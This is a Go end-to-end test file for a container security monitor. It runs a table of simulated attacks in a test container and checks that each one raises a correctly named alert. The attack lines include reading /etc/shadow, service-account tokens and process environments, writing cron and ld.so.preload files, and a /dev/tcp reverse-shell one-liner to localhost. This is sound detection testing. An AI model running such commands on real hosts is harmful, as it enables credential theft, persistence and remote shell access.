package e2e

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"bobwatch/internal/alert"
	"bobwatch/test/watch"
)

// attack is an act of a root shell in the victim, and the alert that has to
// name it.
type attack struct {
	name  string
	line  string // for the victim; $T is a file that belongs to this attack
	named func(*alert.Alert) bool
}

// attacks are made in this order, in one container.
var attacks = []attack{
	// The same file, opened in every way there is.
	{"open", "attack open $T", opened("/etc/secrets/open")},
	{"openat2", "attack openat2 $T", opened("/etc/secrets/openat2")},
	{"relative", "attack relative $T", opened("/etc/secrets/relative")},
	{"dots", "attack open /tmp/../etc/./secrets//dots", opened("/etc/secrets/dots")},
	{"symlink", "attack symlink $T", opened("/etc/secrets/symlink")},
	{"hardlink", "attack hardlink $T", opened("/tmp/hardlink.txt")},
	{"renamed-file", "mv $T /tmp/innocent && attack open /tmp/innocent", opened("/tmp/innocent")},
	{"magic-link", "attack magic-link $T", opened("/etc/secrets/magic-link")},
	// An overlay file system gives no handles.
	{"handle", "cp $T /dev/shm/handle && attack handle /dev/shm/handle", func(a *alert.Alert) bool {
		return opened("/dev/shm/handle")(a) && a.Deviation.Open.Flags == "O_RDONLY"
	}},
	{"race", "attack race $T", opened("/etc/secrets/race")},
	{"uring", "attack uring $T", func(a *alert.Alert) bool { return opened("/etc/secrets/uring")(a) && a.Deviation.Open.IOUring }},
	{"compat-open", "attack compat-open $T", opened("/etc/secrets/compat-open")},
	{"creat", "attack creat /etc/secrets/new", opened("/etc/secrets/new")},
	{"shadow", "attack open /etc/shadow", opened("/etc/shadow")},
	{"shadow-by-cat", "cat /etc/shadow-", opened("/etc/shadow-")},
	{"token", "attack open /run/secrets/kubernetes.io/serviceaccount/token", opened("/run/secrets/kubernetes.io/serviceaccount/token")},
	{"environ", "attack open /proc/1/environ", openedIn("/proc/", "/environ")},
	{"memory", "attack open /proc/1/mem", openedIn("/proc/", "/mem")},
	{"by-builtin", "read -r x <$T", opened("/etc/secrets/by-builtin")},
	{"cron", "echo '* * * * * root id' >/etc/cron.d/evil", opened("/etc/cron.d/evil")},
	{"preload-file", "echo /tmp/evil.so >/etc/ld.so.preload; rm /etc/ld.so.preload", opened("/etc/ld.so.preload")},
	{"write-passwd", "attack write /etc/passwd", func(a *alert.Alert) bool {
		return opened("/etc/passwd")(a) && a.Deviation.Open.Flags != "O_RDONLY"
	}},

	// Programs that are not the workload's.
	{"new-program", "nl $T", executed("/usr/bin/nl")},
	{"dropped", "cp /usr/bin/nl /tmp/dropped && /tmp/dropped $T", executed("/tmp/dropped")},
	{"replaced", "cp /usr/bin/nl /usr/local/bin/id && /usr/local/bin/id $T", executed("/usr/local/bin/id")},
	{"copied-shell", "cp /bin/sh /tmp/ls && /tmp/ls -c :", executed("/tmp/ls")},
	{"renamed-shell", "cp /bin/bash /tmp/sh.new && mv /tmp/sh.new /tmp/cat && /tmp/cat -c :", executed("/tmp/cat")},
	{"symlinked-shell", "ln -s /bin/sh /tmp/ls2 && /tmp/ls2 -c :", argument("/tmp/ls2")},
	{"memfd", "attack memfd", inMemory},
	{"memfd-proc", "attack memfd-proc", executed("memfd:other")},
	{"deleted-exec", "attack deleted-exec", func(a *alert.Alert) bool {
		return a.Deviation.Exec != nil && (a.Deviation.Exec.File.Deleted || strings.HasPrefix(a.Deviation.Exec.Path, "/tmp/.gone"))
	}},
	{"thread-exec", "attack thread-exec", argument("thread")},
	{"chain", "attack chain 5", argument("chain")},
	{"script", "printf '#!/bin/sh\\n:\\n' >/tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh", argument("/tmp/x.sh")},
	{"perl", "perl -e 1", executed("/usr/bin/perl")},
	{"loader", "/lib64/ld-linux-x86-64.so.2 /usr/bin/nl $T", func(a *alert.Alert) bool {
		return a.Deviation.Exec != nil && strings.Contains(a.Deviation.Exec.Path, "ld-linux")
	}},
	{"preload", "cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/evil.so; LD_PRELOAD=/tmp/evil.so cat /dev/null", opened("/tmp/evil.so")},
	{"reverse-shell", "bash -c 'bash -i >/dev/tcp/127.0.0.1/9' || true", executed("/usr/bin/bash")},

	// Peers, ports and sockets that are not the workload's.
	{"bind-shell", "attack bind-shell", func(a *alert.Alert) bool {
		c := a.Deviation.Contact
		return c != nil && c.Direction == "listen" && c.Protocol == "TCP" && c.Port == 4444
	}},
	{"scan-ports", "attack scan-ports", func(a *alert.Alert) bool {
		c := a.Deviation.Contact
		return c != nil && c.Direction == "egress" && c.Address == "127.0.0.1" && c.Port >= 20_000 && c.Port < 20_200
	}},
	{"exfiltrate", "attack exfiltrate", func(a *alert.Alert) bool {
		c := a.Deviation.Contact
		return c != nil && c.Direction == "egress" && c.Protocol == "UDP" && c.Address == "127.0.0.2" && c.Port == 5353
	}},
	{"packet-socket", "attack packet-socket", func(a *alert.Alert) bool {
		return a.Deviation.Socket != nil && a.Deviation.Socket.Family == "packet"
	}},
	{"control-socket", "mkdir -p /run/containerd; attack control-socket /run/containerd/containerd.sock", func(a *alert.Alert) bool {
		return a.Deviation.Contact != nil && a.Deviation.Contact.Path == "/run/containerd/containerd.sock"
	}},

	// System calls that are not the workload's.
	{"ptrace", "attack ptrace", called("ptrace")},
	{"vm-read", "attack vm-read", called("process_vm_readv")},
	{"unshare", "attack unshare", called("unshare")},
	{"setns", "attack setns", called("setns")},
	{"mount", "attack mount; umount /tmp || true", called("mount")},
	{"chroot", "attack chroot", called("chroot")},
	{"module", "attack module", called("init_module")},
	{"bpf", "attack bpf", called("bpf")},
	{"keyctl", "attack keyctl", called("keyctl")},
	{"userfaultfd", "attack userfaultfd", called("userfaultfd")},
	{"compat", "attack compat", func(a *alert.Alert) bool { return abi("386")(a) && a.Deviation.Syscall.Name == "getpid" }},
	{"x32", "attack x32", abi("x32")},
	{"syscall-600", "attack syscall-600", func(a *alert.Alert) bool {
		return a.Deviation.Syscall != nil && a.Deviation.Syscall.Number == 600
	}},
}

// TestAttacks makes all attacks on a container whose benign life was learned,
// and wants one alert for each that says what it was.
func TestAttacks(t *testing.T) {
	l := newLab(t)
	config := l.config(t, 8*time.Second)
	a := l.agent(t, config)
	learnVictim(t, l, config)

	k := l.start(t, l.victim, victimSpec("victim-attacked"))
	if err := l.victim.Load(t.Context(), k, 100); err != nil {
		t.Fatal(err)
	}
	mustBeSilent(t, a, "/usr/bin/shuf", func() { mustTell(t, k, "shuf /dev/null") })
	for _, act := range attacks {
		t.Run(act.name, func(t *testing.T) {
			before := len(a.Alerts())
			t.Log(mustTell(t, k, strings.ReplaceAll(act.line, "$T", secrets+act.name)))
			ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second)
			defer cancel()
			seen, ok := a.Await(ctx, before, act.named)
			if !ok {
				t.Errorf("%s: no alert named it", act.line)
				for _, s := range a.Alerts()[before:] {
					t.Logf("but: %s", s.Message)
				}
				return
			}
			if seen.Container.ID != k.ID || seen.Workload.Name != "victim" {
				t.Errorf("alert is about workload %q, container %q", seen.Workload.Name, seen.Container.ID)
			}
			t.Logf("%s after %s", seen.Message, seen.At.Sub(seen.Last))
			incidents := map[string]bool{}
			for _, s := range a.Alerts()[before:] {
				if s.Count == 1 { // else it goes on from an earlier attack
					incidents[s.Incident] = true
				}
			}
			if incidents[""] {
				t.Error("an alert is part of no incident")
			}
			t.Logf("%d alerts in %d incidents", len(a.Alerts())-before, len(incidents))
		})
	}
}

// TestExecFromOutside wants programs that were started from outside of the
// container told apart from the container's own, and those with a terminal
// from those without.
func TestExecFromOutside(t *testing.T) {
	l := newLab(t)
	config := l.config(t, 8*time.Second)
	a := l.agent(t, config)
	learnVictim(t, l, config)
	k := l.start(t, l.victim, victimSpec("victim-entered"))
	tests := map[string]struct {
		run func(context.Context, ...string) ([]byte, error)
		tty bool
	}{
		"without a terminal": {run: k.Exec},
		"with a terminal":    {run: k.ExecTTY, tty: true},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			before := len(a.Alerts())
			// A program of its own for each, since equal acts are one incident.
			program := map[bool]string{true: "nl", false: "tac"}[tt.tty]
			target := "/usr/lib/" + program
			if _, err := tt.run(t.Context(), program, target+"/missing"); err == nil {
				t.Fatalf("%s succeeded on a missing file", program)
			}
			ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second)
			defer cancel()
			seen, ok := a.Await(ctx, before, argument(target+"/missing"))
			if !ok {
				t.Fatal("no alert")
			}
			if seen.Origin.Kind != alert.OriginOutside || seen.Origin.TTY != tt.tty {
				t.Errorf("origin = %+v, want outside with tty %t", seen.Origin, tt.tty)
			}
		})
	}
}

// learnVictim lets the agent learn the victim's benign life.
func learnVictim(t *testing.T, l *lab, config watch.Config) {
	t.Helper()
	k := l.start(t, l.victim, victimSpec("victim-learned"))
	for end := time.Now().Add(config.Window); time.Now().Before(end); {
		if err := l.victim.Load(t.Context(), k, int(time.Until(end))); err != nil {
			t.Fatal(err)
		}
	}
	learned(t, config, "victim")
	l.stop(t, k)
}

func opened(path string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Open != nil && a.Deviation.Open.Path == path }
}

func openedIn(prefix, suffix string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool {
		o := a.Deviation.Open
		return o != nil && strings.HasPrefix(o.Path, prefix) && strings.HasSuffix(o.Path, suffix)
	}
}

func executed(path string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Exec != nil && a.Deviation.Exec.Path == path }
}

// argument returns a match for an execution with arg among its arguments.
func argument(arg string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool {
		return a.Deviation.Exec != nil && slices.Contains(a.Deviation.Exec.Args, arg)
	}
}

func inMemory(a *alert.Alert) bool { return a.Deviation.Exec != nil && a.Deviation.Exec.File.Memfd }

func called(name string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Syscall != nil && a.Deviation.Syscall.Name == name }
}

func abi(name string) func(*alert.Alert) bool {
	return func(a *alert.Alert) bool { return a.Deviation.Syscall != nil && a.Deviation.Syscall.ABI == name }
}
